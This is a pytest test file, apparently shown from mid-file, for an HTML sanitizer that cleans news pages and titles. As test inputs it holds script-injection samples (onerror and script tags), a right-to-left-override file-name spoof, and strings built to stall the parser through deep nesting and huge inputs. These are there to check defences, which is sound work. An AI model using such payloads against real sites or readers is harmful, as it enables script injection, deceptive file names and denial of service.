        ("<img src=/pixel.gif width=1 height=1>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src=/p.gif height='1px'>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src='data:image/png;base64,AA'>", "https://example.org/photo.jpg?a=1&b=2"),
        (
            "<img src=https://s.w.org/images/core/emoji/15/72x72/1f600.png>",
            "https://example.org/photo.jpg?a=1&b=2",
        ),
        ("<img src=/wp-includes/images/smilies/icon.gif>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src=/icon.png width=16 height=16>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src=https://secure.gravatar.com/avatar/1>", "https://example.org/photo.jpg?a=1&b=2"),
        (
            "<img src=https://s0.wp.com/wp-content/mu-plugins/wpcom-smileys/twemoji/2/72x72/1f389.png>",
            "https://example.org/photo.jpg?a=1&b=2",
        ),
        (
            "<img src=https://static.addtoany.com/buttons/favicon.png>",
            "https://example.org/photo.jpg?a=1&b=2",
        ),
        ("<img src=/share_save_171_16.png>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src=/button.png width=171 height=16>", "https://example.org/photo.jpg?a=1&b=2"),
        ("<img src=/share-your-story.jpg>", "https://example.org/share-your-story.jpg"),
        ("<img srcset='/small.jpg 1x, /big.jpg 2x'>", "https://example.org/small.jpg"),
        ("<img src=/wide.jpg width=800 height=30>", "https://example.org/wide.jpg"),
    ],
)
def test_the_lead_image_is_a_picture_of_the_news(before: str, image: str) -> None:
    assert clean(f"<p>{before}<img src='/photo.jpg?a=1&amp;b=2' alt=x></p>", base=BASE).image == image


def test_news_without_a_picture_has_no_lead_image() -> None:
    assert clean("<p>a <img src=/p.gif width=1></p>", base=BASE).image is None
    assert clean("words", base=BASE).image is None


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One  two\nthree</p><p>four</p>", "One two three\nfour"),
        ("a<br>b<hr>c", "a\nb\nc"),
        ("<ul><li>a<li>b</ul>", "a\nb"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc"),
        ("x <b>y</b><i>z</i>", "x yz"),
        ("AT&amp;T &lt;b&gt; &amp;lt; &nbsp; caf&eacute;", "AT&T <b> &lt; café"),
        ("<p>a <img src=https://a.example/x.png alt='picture'> b</p>", "a b"),
        ("<p title='1 > 0'>a</p>", "a"),
        ("a\x00\x08\ufffe\ud800b &#8;c", "ab c"),
        ("plain  text\nwithout > markup", "plain text without > markup"),
        ("", ""),
    ],
)
def test_the_words_of_a_text_are_those_that_are_shown(html: str, text: str) -> None:
    assert clean(html, base=None).text == text


def test_what_describes_a_text_is_kept_only_if_it_can_be_right() -> None:
    html = "<p lang='en-GB' dir=RTL>a</p><p lang='x\"' dir=up>b</p>"
    html += "<img src=/x.png width=300px height=50%><table><td colspan=99999999>c</table>"
    assert (
        clean(html, base=BASE).html == '<p lang="en-GB" dir="rtl">a</p><p>b</p>'
        '<img src="https://example.org/x.png" width="300"><table><tbody><tr><td>c</td></tr></tbody></table>'
    )


# ---------------------------------------------------------------- bounds

MUCH = {
    "nested": "<div>" * 100_000 + "deep" + "</div>" * 100_000,
    "nested in short": "<ul>" * 120_000 + "deep",
    "unclosed": "<b><i><a href=x>" * 100_000 + "deep",
    "formatting that HTML repeats": "<p>" + "".join(f"<b lang=a{n}>" for n in range(4000)) + "<p>deep" * 4000,
    "a little formatting that HTML repeats": "<p>"
    + "".join(f"<b lang=a{n}>" for n in range(250))
    + "<p>deep" * 1500,
    "hidden formatting that HTML repeats": "<p>"
    + "".join(f"<b x='>' y={n}><i x=a'b y={n}>" for n in range(2000))
    + "<p>deep" * 4000,
    "attributes": "<p " + " ".join(f"a{n}" for n in range(60_000)) + ">deep</p>",
    "references": "<p>deep " + "a &amp; " * 1_000_000,
    "a huge reference": "<p>deep &#" + "9" * 5_000 + ";" + "<b>" * 100_000,
    "comments": "<p>deep" + "<!--" * 1_000_000,
    "tags never closed": "<p>deep " + "<script" * 1_000_000,
    "scripts": "<p>deep " + "<script>x</script>" * 200_000,
    "lazy pictures": "<p>deep</p>" + "<img data-src=y '" * 25_000,
    "a lazy picture's name without a value": "<p>deep</p><img data-src=y " + "a" * 60_000 + ">",
    "a frame's name without a value": "<p>deep</p><iframe " + "a" * 60_000 + ">",
    "frames": "<p>deep</p>" + "<iframe src=//a.example y='" * 20_000,
    "sizes": "<p>deep<img srcset='" + "a 1x," * 80_000 + "'>",
    "a style of one word": "<p>deep</p><i style='" + "display:none;" * 35_000 + "'>x</i>",
    "hidden in hidden": "<p>deep</p>" + "<div style='display:none'>" * 20_000,
    "a placeholder": "<p>deep<img src='data:image/png;base64," + "A" * 5_000_000 + "'></p>",
}


@pytest.mark.parametrize("html", [pytest.param(html, id=name) for name, html in MUCH.items()])
def test_a_text_made_to_take_for_ever_takes_seconds(html: str) -> None:
    started = time.thread_time()
    cleaned = clean(html, base=BASE)
    assert time.thread_time() - started < 10
    assert "deep" in cleaned.text
    assert len(cleaned.html) < 4 * len(html) + 10_000
    depth = 0
    for slash, name in re.findall("<(/?)([a-z0-9]+)", cleaned.html):
        depth += -1 if slash else name not in ("img", "br")
        assert depth <= 200


def test_20_mb_of_words_are_published() -> None:
    cleaned = clean("<p>" + "word " * 4_000_000 + "</p>", base=None)
    assert len(cleaned.text) == 20_000_000 - 1


def test_a_text_nested_too_deep_keeps_its_words_and_paragraphs() -> None:
    html = "<div>" * 300 + "<p>One &amp; two</p><script>no</script><p>a &lt; b<!-- no --></p>"
    assert clean(html, base=BASE) == markup.Cleaned("<p>One &amp; two<br>a &lt; b</p>", "One & two\na < b")
    shallow = "<div>" * 150 + "<p>One</p>"
    assert clean(shallow, base=BASE).html.startswith("<div><div>")


def test_a_long_list_is_not_taken_for_deep_nesting() -> None:
    html = "<ul>" + "".join(f"<li><p><b style=x>n</b> <a href=/{n}>{n}</a><br>" for n in range(400)) + "</ul>"
    assert clean(html, base=BASE).html.count("<li>") == 400


# ---------------------------------------------------------------- titles


@pytest.mark.parametrize(
    ("value", "type_", "title"),
    [
        ("AT&amp;T <b>wins</b>", "html", "AT&T wins"),
        ("a &amp;lt; b", "html", "a &lt; b"),
        ("One<br>two<p>three</p>", "html", "One two three"),
        ("<script>ran()</script>News", "html", "News"),
        ("Use &lt;b&gt; for bold", "html", "Use <b> for bold"),
        ("AT&amp;T <b>wins</b>", "text", "AT&amp;T <b>wins</b>"),
        # Escaped all the same; what has one that is not, or none by that name, is as it was meant.
        ("It&#8217;s AT&amp;T", "text", "It’s AT&T"),
        ("Use &amp;amp; &gt; &amp;", "text", "Use &amp; > &"),
        ("Use &lt;b&gt; for bold", "text", "Use &lt;b&gt; for bold"),
        ("R&D says &amp; is a reference", "text", "R&D says &amp; is a reference"),
        ("Fish &chips;", "text", "Fish &chips;"),
        ("a < b and c > d", None, "a < b and c > d"),
        ("Use <b> in HTML", None, "Use <b> in HTML"),
        ("AT&T buys", None, "AT&T buys"),
        ("if (a<b && c>d)", None, "if (a<b && c>d)"),
        ("Fish &chips; R&D;", None, "Fish &chips; R&D;"),
        ("An <unknown>tag</unknown>", None, "An <unknown>tag</unknown>"),
        ("Tom &amp; Jerry", None, "Tom & Jerry"),
        ("1 &lt; 2", None, "1 < 2"),
        ("It&#8217;s &#x201C;new&#x201D;", None, "It’s “new”"),
        # Escaped by one system after the other.
        ("Research &amp;amp; Development &amp;#8211; jobs", None, "Research & Development – jobs"),
        ("Research &amp;amp;amp; Development", None, "Research & Development"),
        ("Research &amp;amp; Development", "html", "Research &amp; Development"),
        ("Use &amp;lt;b&amp;gt; in HTML", None, "Use <b> in HTML"),
        ("The <B>big</B> one", None, "The big one"),
        ("One<br/>two", None, "One two"),
        ("News<!-- no -->today", None, "Newstoday"),
        ("A <img src=x onerror=ran()> B", None, "A B"),
        ("Safe <script>ran()</script>words", None, "Safe words"),
        ("  Two\n\tlines ", None, "Two lines"),
        ("NUL\x00 and\x07 bell\ufffe\ud800", None, "NUL and bell"),
        ("&#" + "9" * 5000 + "; &amp;", None, "\ufffd &"),
    ],
)
def test_a_title_says_what_its_publisher_meant(value: str, type_: object, title: str) -> None:
    assert title_text(value, type=type_) == title  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "value",
    [
        "",
        "   ",
        "\u200b\u200d\ufeff",
        "<b></b>",
        "&nbsp;",
        "\u3164",
        "<!-- -->",
        "\u202e",
        "\u0301",
        "\u2800\xad",
    ],
)
def test_a_title_in_which_nothing_can_be_seen_is_none(value: str) -> None:
    assert title_text(value, type=None) == ""


@pytest.mark.parametrize(
    ("value", "title"),
    [
        ("Report \u202efdp.exe\u202d", "Report fdp.exe"),
        ("Open \u202e\u2067\u202b never closed", "Open never closed"),
        ("\u202bשלום\u202c", "\u202bשלום\u202c"),
        ("\u2067\u202eא\u2069 b", "\u2067א\u2069 b"),
        ("stray \u202c and \u2069 ends", "stray and ends"),
        ("\u2068a\u202c b\u2069", "\u2068a b\u2069"),
        ("أخبار \u200fالصحة", "أخبار \u200fالصحة"),
    ],
)
def test_a_title_does_not_turn_the_rest_of_the_page_round(value: str, title: str) -> None:
    assert title_text(value, type=None) == title
    assert markup.line(value) == title


def test_marks_on_a_letter_do_not_cover_other_lines() -> None:
    title = title_text("Z" + "\u0321\u0300\u0345" * 500 + "algo", type=None)
    assert title == "Z" + ("\u0321\u0300\u0345" * 500)[:8] + "algo"
    hidden = title_text("Z" + ("\u0300" * 8 + "\u200d") * 50, type=None)
    assert hidden.count("\u0300") == 8
    vietnamese = unicodedata.normalize("NFD", "Tiếng Việt")
    assert title_text(vietnamese, type=None) == vietnamese


# ---------------------------------------------------------------- plain text


def test_a_plain_text_is_shown_as_it_is_written() -> None:
    assert (
        markup.escape("One <b>\ntwo & three\r\n\r\n\n four\x00")
        == "<p>One &lt;b&gt;<br>two &amp; three</p><p>four</p>"
    )
    assert markup.escape(" \n ") == ""


# No text has U+FDD0 or U+FDD1 (Unicode §23.7), which stand around what is not of its words.
@given(st.text())
@example("one\ufdd0 two\ufdd1")
def test_a_shown_text_reads_as_it_was_written(text: str) -> None:
    cleaned = clean(markup.escape(text), base=None)
    assert (
        cleaned.text.split()
        == "".join(
            re.split(
                "[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufdd0\ufdd1\ufffe\uffff\u00ad\u2060\ufeff]", text
            )
        ).split()
    )


def test_where_a_word_may_be_broken_is_no_part_of_the_word() -> None:
    cleaned = clean("<p>Gesund&shy;heits\u2060zentrum</p>", base=None)
    assert cleaned.text == "Gesundheitszentrum"
    assert title_text("Gesund\u00adheit", type=None) == "Gesundheit"
    # In Khmer it parts words.
    assert "\u200b" in clean("<p>a\u200bb</p>", base=None).text


@pytest.mark.parametrize(
    ("text", "limit", "short"),
    [
        ("Short\n text", 20, "Short text"),
        ("exactly ten", 11, "exactly ten"),
        ("one two three four", 12, "one two…"),
        ("one two, three four", 12, "one two…"),
        ("First of all. Second sentence", 24, "First of all. Second…"),
        ("First of all this. Second sentence", 26, "First of all this. …"),
        ("Costs 3.5 million pounds in all", 24, "Costs 3.5 million…"),
        ("x" * 100_000, 10, "xxxxxxxxx…"),
        ("一二三。四五六七八九十。十一十二", 14, "一二三。四五六七八九十。 …"),
        ("a\u202eb " * 10, 10, "ab ab…"),
        ("", 10, ""),
    ],
)
def test_an_excerpt_ends_where_a_reader_would_stop(text: str, limit: int, short: str) -> None:
    assert markup.excerpt(text, limit=limit) == short


@given(st.text() | st.text("ab. !。\u0301\u200d", max_size=80), st.integers(5, 60))
def test_an_excerpt_is_never_longer_than_asked(text: str, limit: int) -> None:
    assert len(markup.excerpt(text, limit=limit)) <= limit


@pytest.mark.parametrize(
    ("text", "language", "way"),
    [
        ("News", None, "ltr"),
        ("News", "en-GB", "ltr"),
        ("أخبار", None, "rtl"),
        ("أخبار الصحة", "en-GB", "rtl"),
        ("NHS: חדשות", "he", "rtl"),
        ("NHS: חדשות", None, "ltr"),
        ("In English", "ar", "ltr"),
        ("2026", "fa-IR", "rtl"),
        ("2026", "ur_PK", "rtl"),
        ("2026", "ur-Latn", None),
        ("2026", "az-Arab", "rtl"),
        ("2026", "en", None),
        ("", None, None),
        ("", "", None),
    ],
)
def test_a_text_runs_the_way_its_language_does(text: str, language: str | None, way: str | None) -> None:
    assert markup.direction(text, language) == way


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("The hospital's “new” plan", "the hospital s new plan"),
        ('The hospital’s "new"\xa0plan', "the hospital s new plan"),
        ("THE HOSPITAL'S – NEW – PLAN!", "the hospital s new plan"),
        ("1,200 people (3.5%)", "1 200 people 3 5"),
        ("cafe\u0301 & Straße", "café strasse"),
        ("café & STRASSE", "café strasse"),
        ("ﬁrst ２ ½", "first 2 1 2"),
        ("co\xadop\u200beration", "cooperation"),
        ("Word™ snake_case", "word snake case"),
        ("健康ニュース2026年", "健 康 ニ ュ ー ス 2026 年"),
        ("हिन्दी समाचार।", "हिन्दी समाचार"),
        ("…!", ""),
    ],
)
def test_words_are_compared_without_their_typography(text: str, words: str) -> None:
    assert markup.words(text) == words


@given(st.text())
def test_words_are_the_same_however_their_letters_are_composed(text: str) -> None:
    found = markup.words(text)
    assert markup.words(unicodedata.normalize("NFD", text)) == markup.words(
        unicodedata.normalize("NFC", text)
    )
    assert found == " ".join(found.split())


@given(st.text(st.characters(codec="ascii")))
def test_plain_english_is_no_special_case(text: str) -> None:
    assert markup.words(text + "é") == f"{markup.words(text + 'e')[:-1]}é"
